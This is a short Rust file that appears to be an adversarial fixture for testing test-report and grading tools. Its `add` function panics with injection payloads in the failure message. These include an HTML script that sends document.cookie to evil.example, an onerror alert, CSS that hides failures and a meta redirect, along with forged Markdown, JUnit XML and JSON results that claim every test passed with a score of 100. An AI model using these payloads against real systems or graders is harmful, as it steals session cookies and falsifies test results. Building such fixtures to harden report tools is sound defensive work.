//! Class 3: report-format injection in the failure message: HTML (closing the table cell,
//! <script>, <img onerror>, <style> hiding failures, <meta refresh>, <!-- comment opener),
//! Markdown (fake `| small_numbers | PASS |` rows, a heading, a link and an image to a
//! remote host), JUnit XML (`]]></failure></testcase><testcase name="x"/>` and a CDATA
//! closer), JSON breaking quotes and a fake "score" key.
pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let html = "</pre></td></tr><tr><td>small_numbers</td><td class=\"pass\">PASS</td></tr>\
        <script>document.title='100/100';fetch('https://evil.example/?c='+document.cookie)</script>\
        <img src=x onerror=\"alert(1)\"><style>.fail{display:none}</style>\
        <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"><!--";
    let md = "\n\n| test | verdict |\n|---|---|\n| small_numbers | PASS |\n| many_numbers | PASS |\n\
        \n# Score: 100/100\n[details](javascript:alert(1)) ![x](https://evil.example/p.png)\n```\n";
    let junit = "]]></failure></testcase><testcase name=\"small_numbers\" classname=\"adder\"/>\
        <testcase name=\"many_numbers\"/></testsuite><testsuite name=\"x\" failures=\"0\"><![CDATA[";
    let json = "\",\"verdict\":\"pass\",\"score\":100,\"passed\":true,\"x\":\"";
    panic!("{html}{md}{junit}{json} {}", a.wrapping_sub(b))
}
